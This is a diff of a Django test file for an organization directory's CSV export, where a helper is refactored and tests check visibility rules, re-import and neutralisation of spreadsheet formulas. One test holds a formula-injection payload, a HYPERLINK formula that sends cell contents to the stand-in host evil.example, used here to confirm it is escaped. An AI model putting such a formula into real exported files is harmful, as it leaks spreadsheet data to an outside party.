@@ -13,6 +13,7 @@ from django.utils import timezone
 from organizations import exchange
 from organizations.models import HistoryEntry, Membership, Organization
 from portal.models import User
+from portal.spreadsheets import write_csv
 from tests.factories import MembershipFactory, OrganizationFactory, UserFactory, make_coordinator
 
 pytestmark = pytest.mark.django_db
@@ -40,6 +41,11 @@ def upload(text: str | bytes, name: str = "organizations.csv") -> SimpleUploaded
     return SimpleUploadedFile(name, content, content_type="text/csv")
 
 
+def export_csv(user: User) -> str:
+    """The directory's export for `user`, as the CSV text the download holds."""
+    return write_csv(exchange.directory_rows(user))
+
+
 def rows_of(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
 
@@ -60,7 +66,7 @@ def test_export_has_one_row_per_organization_with_its_codes() -> None:
     stj.topics.set(stj.topics.model.objects.filter(slug__in=["documentation", "detention"]))
     stj.governorates.set(stj.governorates.model.objects.filter(code__in=["raqqa", "aleppo"]))
 
-    rows = {row["slug"]: row for row in rows_of(exchange.export_directory_csv(coordinator))}
+    rows = {row["slug"]: row for row in rows_of(export_csv(coordinator))}
 
     row = rows[stj.slug]
     assert list(row) == exchange.EXPORT_COLUMNS
@@ -84,7 +90,7 @@ def test_export_shows_contacts_only_where_the_coordinator_may_see_them() -> None
         phone_visibility="coordinators",
     )
 
-    text = exchange.export_directory_csv(coordinator)
+    text = export_csv(coordinator)
     rows = {row["slug"]: row for row in rows_of(text)}
 
     assert CANARY not in text and "Canary Street" not in text
@@ -99,10 +105,10 @@ def test_export_lists_only_organizations_the_person_may_see() -> None:
     other_draft = OrganizationFactory(name_en="Families for Freedom", status=Organization.Status.DRAFT)
     owner = MembershipFactory(organization=own_draft, role=Membership.Role.OWNER).user
 
-    slugs = {row["slug"] for row in rows_of(exchange.export_directory_csv(owner))}
+    slugs = {row["slug"] for row in rows_of(export_csv(owner))}
 
     assert slugs == {listed.slug, own_draft.slug}
-    assert other_draft.slug in {row["slug"] for row in rows_of(exchange.export_directory_csv(make_coordinator()))}
+    assert other_draft.slug in {row["slug"] for row in rows_of(export_csv(make_coordinator()))}
 
 
 def test_export_neutralises_formulas() -> None:
@@ -116,7 +122,7 @@ def test_export_neutralises_formulas() -> None:
         email_visibility="public",
     )
 
-    text = exchange.export_directory_csv(coordinator)
+    text = export_csv(coordinator)
     row = next(row for row in rows_of(text) if "HYPERLINK" in row["name_en"])
 
     assert row["name_en"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
@@ -343,7 +349,7 @@ def test_exported_file_imports_back_once_its_names_are_new() -> None:
     original = OrganizationFactory(
         name_en="=Synergy", acronym="-S", email="office@synergy.example.org", email_visibility="public"
     )
-    exported = exchange.export_directory_csv(coordinator)
+    exported = export_csv(coordinator)
     exported = "\n".join(line for line in exported.splitlines() if "iiim" not in line) + "\n"
     Organization.objects.filter(pk=original.pk).update(name_en="Synergy (before the import)")
 
